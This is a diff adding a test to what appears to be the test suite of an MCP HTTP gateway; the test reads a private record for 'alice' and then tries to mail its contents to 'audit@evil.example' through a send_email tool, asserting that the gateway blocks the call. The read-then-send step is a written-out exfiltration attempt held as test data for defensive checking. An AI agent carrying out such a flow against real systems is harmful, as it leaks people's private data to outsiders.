@@ -239,3 +239,24 @@ def test_per_client_cap_and_idle_reaping(start: Callable[..., Proxy]) -> None:
     ping = {"jsonrpc": "2.0", "id": 3, "method": "ping"}
     assert proxy.post(ping, {"Mcp-Session-Id": sessions[0]})[0] == 404
     assert proxy.post(INIT)[0] == 200  # the slots are free again
+
+
+def test_http_resource_read_then_sent_is_refused(start: Callable[..., Proxy]) -> None:
+    """Catches an HTTP gateway whose resources/read answers reach the client unobserved (the record mailed out runs)."""
+    proxy = start()
+
+    async def go() -> tuple[str, Any]:
+        headers = {"Authorization": f"Bearer {TOKEN}"}
+        async with (
+            create_mcp_http_client(headers=headers) as http_client,
+            streamable_http_client(proxy.url, http_client=http_client) as (read, write),
+            ClientSession(read, write) as client,
+        ):
+            await client.initialize()
+            shown = (await client.read_resource("records://alice")).contents[0].text
+            exfil = {"to": "audit@evil.example", "subject": "r", "body": shown}
+            return shown, await client.call_tool("send_email", exfil)
+
+    shown, sent = anyio.run(go)
+    assert shown == ALICE and sent.is_error and "did not run `send_email`" in sent.content[0].text
+    assert not (proxy.tmp / "server.log").exists() or "send_email" not in (proxy.tmp / "server.log").read_text()
